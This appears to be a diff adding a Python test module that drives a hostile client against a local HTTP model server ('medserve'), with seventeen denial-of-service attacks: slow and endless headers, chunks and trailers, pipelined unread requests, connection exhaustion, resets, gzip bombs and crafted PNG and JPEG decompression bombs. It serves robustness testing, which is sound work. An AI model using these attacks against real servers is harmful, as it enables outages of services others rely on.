@@ -1,0 +1,319 @@
+"""What one hostile client may send to an HTTP server of the protocol: up to 64 MB per attack, to this machine only.
+
+Each attack is a generator over its own steps, so that the caller can look at the server, or stop it, in the middle.
+Its connections stay open until `Client.close`: a server that only survives because the client leaves is not safe.
+"""
+
+import gzip
+import io
+import selectors
+import socket
+import time
+import zlib
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from typing import NamedTuple
+
+import numpy as np
+from PIL import Image
+
+from medserve import wire
+
+BUDGET = 64 << 20
+"""Bytes that the client of an attack sends at most."""
+STALL_SECONDS = 1.0
+"""A server that takes no byte for so long has stopped reading: the flood has ended."""
+ANSWER_SECONDS = 60.0
+PIECE = 1 << 16
+CONNECTIONS = 900
+REQUEST = b"GET /v2 HTTP/1.1\r\nHost: abcd\r\n\r\n"
+"""32 bytes, so that a piece, and what a server reads at a time, ends with a request."""
+LARGE_ANSWER = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
+UPGRADE = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
+
+Steps = Iterator[None]
+
+
+class Client:
+    """The connections of one client to `address`, where `model` is served, and the bytes that it sends: `budget`."""
+
+    def __init__(self, address: tuple[str, int], model: str, budget: int = BUDGET) -> None:
+        self.address, self.model, self.budget = address, model, budget
+        self.sent = 0
+        self.connections: list[socket.socket] = []
+
+    def __enter__(self) -> "Client":
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        for connection in self.connections:
+            connection.close()
+
+    @property
+    def has_budget(self) -> bool:
+        """Whether bytes are left to be sent."""
+        return self.sent < self.budget
+
+    def connect(self) -> socket.socket:
+        """A new connection. Raises OSError where the server takes none."""
+        connection = socket.create_connection(self.address, ANSWER_SECONDS)
+        connection.settimeout(STALL_SECONDS)
+        self.connections.append(connection)
+        return connection
+
+    def send(self, connection: socket.socket, content: bytes) -> bool:
+        """Send; whether the server took everything, and neither closed the connection nor stopped reading."""
+        view = memoryview(content)
+        with suppress(OSError):
+            while view:
+                count = connection.send(view)
+                self.sent += count
+                view = view[count:]
+        return not view
+
+    def flood(self, connection: socket.socket, piece: bytes) -> Steps:
+        """Send `piece` repeatedly until the budget is spent or the server takes no more."""
+        while self.has_budget and self.send(connection, piece):
+            yield
+
+    def hold(self, seconds: float) -> Steps:
+        """Leave the connections open and do nothing."""
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            yield
+            time.sleep(0.05)
+
+    def wait_for_answers(self) -> Steps:
+        """Wait until every connection has an answer or is closed, at most ANSWER_SECONDS."""
+        end = time.monotonic() + ANSWER_SECONDS
+        with selectors.DefaultSelector() as selector:
+            for connection in self.connections:
+                selector.register(connection, selectors.EVENT_READ)
+            while selector.get_map() and time.monotonic() < end:
+                for key, _ in selector.select(0.05):
+                    selector.unregister(key.fileobj)
+                yield
+
+    def head(self, route: str, *lines: str) -> bytes:
+        """The head of a POST to `infer` or `classify`, with further header lines."""
+        start = [f"POST /v2/models/{self.model}/{route} HTTP/1.1", "Host: a", *lines, "", ""]
+        return "\r\n".join(start).encode()
+
+    def post(self, route: str, body: bytes, *lines: str) -> bytes:
+        """A whole POST."""
+        return self.head(route, f"Content-Length: {len(body)}", *lines) + body
+
+
+class Attack(NamedTuple):
+    """What a client does, and the deployment that it does it to: options of `serve`, pixels of a side."""
+
+    title: str
+    run: Callable[[Client], Steps]
+    options: tuple[str, ...] = ("--runtime", "null")
+    size: int = 28
+
+
+def trailers(client: Client) -> Steps:
+    """A chunked body that is whole, and trailers without end."""
+    connection = client.connect()
+    client.send(connection, client.head("infer", "Transfer-Encoding: chunked") + b"2\r\n{}\r\n0\r\n")
+    yield from client.flood(connection, b"Name: value\r\n" * (PIECE // 13))
+
+
+def pipelined_requests(client: Client) -> Steps:
+    """Requests of 32 bytes on one connection, whose answers are not read."""
+    yield from client.flood(client.connect(), REQUEST * (PIECE // len(REQUEST)))
+
+
+def pipelined_bodies(client: Client) -> Steps:
+    """Whole infer requests of 64 KB on one connection, whose answers are not read."""
+    headers, body = wire.encode_request(np.zeros((27, 28, 28, 3), np.uint8))
+    lines = [f"{name}: {value}" for name, value in headers.items()]
+    padding = PIECE - len(client.post("infer", body, *lines, "Padding: "))
+    yield from client.flood(client.connect(), client.post("infer", body, *lines, "Padding: " + "a" * padding))
+
+
+def unread_answers(client: Client) -> Steps:
+    """Requests of the largest page on 100 connections that are never read: a few bytes ask for 400 MB."""
+    for _ in range(100):
+        client.send(client.connect(), LARGE_ANSWER * 200)
+        yield
+    yield from client.hold(2.0)
+
+
+def slow_readers(client: Client) -> Steps:
+    """The same on connections that are read, 1,000 bytes at a time."""
+    for _ in range(100):
+        client.send(client.connect(), LARGE_ANSWER * 200)
+        yield
+    for _ in range(20):
+        for connection in client.connections:
+            connection.settimeout(0)
+            with suppress(OSError):
+                connection.recv(1000)
+        yield
+        time.sleep(0.1)
+
+
+def half_bodies(client: Client) -> Steps:
+    """Image files of nearly 16 MiB whose last byte does not come."""
+    piece = bytes(PIECE)
+    while client.has_budget:
+        connection = client.connect()
+        if not client.send(connection, client.head("classify", f"Content-Length: {16 << 20}")):
+            return
+        for _ in range((16 << 20) // PIECE - 1):
+            if not client.has_budget or not client.send(connection, piece):
+                break
+            yield
+    yield from client.hold(1.0)
+
+
+def small_chunks(client: Client) -> Steps:
+    """A body in chunks of one byte."""
+    connection = client.connect()
+    client.send(connection, client.head("classify", "Transfer-Encoding: chunked"))
+    yield from client.flood(connection, b"1\r\na\r\n" * (PIECE // 6))
+
+
+def chunk_extension(client: Client) -> Steps:
+    """One chunk whose extension does not end."""
+    connection = client.connect()
+    client.send(connection, client.head("classify", "Transfer-Encoding: chunked") + b"1;")
+    yield from client.flood(connection, b"a" * PIECE)
+
+
+def endless_heads(client: Client) -> Steps:
+    """Heads without end; after each refusal a new connection."""
+    while client.has_budget:
+        connection = client.connect()
+        yield from client.flood(connection, b"Name: value\r\n" * (PIECE // 13))
+        connection.close()
+
+
+def many_headers(client: Client) -> Steps:
+    """As many connections as the server takes, each with half a head of 60 KB in headers of four bytes."""
+    content = b"GET /v2 HTTP/1.1\r\n" + b"a:\r\n" * 15_000
+    for _ in range(CONNECTIONS):
+        if not client.has_budget:
+            return
+        client.send(client.connect(), content)
+        yield
+    yield from client.hold(1.0)
+
+
+def upgrades(client: Client) -> Steps:
+    """Offers of HTTP/2, then bytes that are no HTTP/1.1; and pipelined requests that offer it, unread."""
+    offer = REQUEST[:-2] + UPGRADE + b"\r\n"
+    connection = client.connect()
+    client.send(connection, offer)
+    half, client.budget = client.budget, client.budget // 2
+    yield from client.flood(connection, bytes(PIECE))
+    client.budget = half
+    yield from client.flood(client.connect(), offer * (PIECE // len(offer)))
+
+
+def resets(client: Client) -> Steps:
+    """Half a request, then a reset, 2,000 times."""
+    content = client.head("infer", "Content-Length: 5000") + bytes(4000)
+    for _ in range(2000):
+        connection = client.connect()
+        client.send(connection, content)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
+        connection.close()
+        client.connections.remove(connection)
+        yield
+
+
+def idle_connections(client: Client) -> Steps:
+    """As many connections as the server takes, on which nothing is sent."""
+    for _ in range(CONNECTIONS):
+        client.connect()
+        yield
+    yield from client.hold(1.0)
+
+
+def _post_files(client: Client, *contents: bytes) -> Steps:
+    for content in contents:
+        client.send(client.connect(), content)
+        yield
+    yield from client.wait_for_answers()
+
+
+def jpeg_scans(client: Client) -> Steps:
+    """A flat JPEG of 4 Mpx in 8,000 scans, each of which the decoder reads for the whole image."""
+    file = progressive_jpeg(2048, 8000)
+    yield from _post_files(client, client.post("classify", file))
+
+
+def large_pixels(client: Client) -> Steps:
+    """PNG files of 49 KB that are 4096 x 4096 px, on 8 connections."""
+    file = flat_png(4096)
+    yield from _post_files(client, *[client.post("classify", file)] * 8)
+
+
+def png_texts(client: Client) -> Steps:
+    """PNG files of 67 KB whose compressed texts are 63 MB of characters, on 8 connections."""
+    file = png_with_texts(63)
+    yield from _post_files(client, *[client.post("classify", file)] * 8)
+
+
+def gzip_bombs(client: Client) -> Steps:
+    """Tensors of 9.6 MB in 10 KB of gzip, on 128 connections to a queue that is slowly worked off."""
+    headers, body = wire.encode_request(np.zeros((64, 224, 224, 3), np.uint8))
+    lines = [f"{name}: {value}" for name, value in headers.items()]
+    content = client.post("infer", gzip.compress(body), "Content-Encoding: gzip", *lines)
+    yield from _post_files(client, *[content] * 128)
+
+
+def progressive_jpeg(side: int, scans: int) -> bytes:
+    """A flat grey progressive JPEG of `side` px in at least six scans, the last of which is repeated."""
+    file = io.BytesIO()
+    Image.new("L", (side, side), 100).save(file, "JPEG", progressive=True)
+    whole = file.getvalue()
+    start_of_scan = b"\xff\xda"
+    repeated = whole[whole.rindex(start_of_scan) : -2]
+    return whole[:-2] + repeated * (scans - whole.count(start_of_scan)) + whole[-2:]
+
+
+def flat_png(side: int) -> bytes:
+    """A black PNG of `side` px in colour."""
+    file = io.BytesIO()
+    Image.new("RGB", (side, side)).save(file, "PNG", compress_level=9)
+    return file.getvalue()
+
+
+def png_with_texts(count: int) -> bytes:
+    """A PNG of 28 px with `count` compressed texts of 2**20 bytes each (iTXt, PNG specification 11.3.3.4)."""
+    text = zlib.compress(b"\xf0\x9f\x98\x80" + b"a" * ((1 << 20) - 4), 9)
+    whole = flat_png(28)
+    signature_and_header = 33
+    texts = b"".join(_png_chunk(b"iTXt", b"key%d\0\1\0\0\0" % number + text) for number in range(count))
+    return whole[:signature_and_header] + texts + whole[signature_and_header:]
+
+
+def _png_chunk(kind: bytes, content: bytes) -> bytes:
+    return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")
+
+
+QUEUED = ("--runtime", "delay", "--options", '{"delays_ms": [200]}', "--dispatch", "thread", "--batch-sizes", "64")
+
+ATTACKS = {
+    "trailers": Attack("endless trailers", trailers),
+    "pipelined": Attack("pipelined GETs, answers unread", pipelined_requests),
+    "bodies": Attack("pipelined tensors, answers unread", pipelined_bodies),
+    "unread": Attack("large answers, never read", unread_answers),
+    "slow": Attack("large answers, read slowly", slow_readers),
+    "half": Attack("image files without their last byte", half_bodies),
+    "chunks": Attack("chunks of one byte", small_chunks),
+    "extension": Attack("endless chunk extension", chunk_extension),
+    "heads": Attack("endless heads, reconnecting", endless_heads),
+    "headers": Attack("half heads in headers of 4 bytes", many_headers),
+    "upgrades": Attack("HTTP/2 upgrade offers", upgrades),
+    "resets": Attack("half requests, reset", resets),
+    "idle": Attack("idle connections", idle_connections),
+    "scans": Attack("JPEG in 8,000 scans", jpeg_scans),
+    "pixels": Attack("PNG of 16 Mpx", large_pixels),
+    "texts": Attack("PNG with compressed texts", png_texts),
+    "bombs": Attack("gzip bombs into the queue", gzip_bombs, QUEUED, 224),
+}
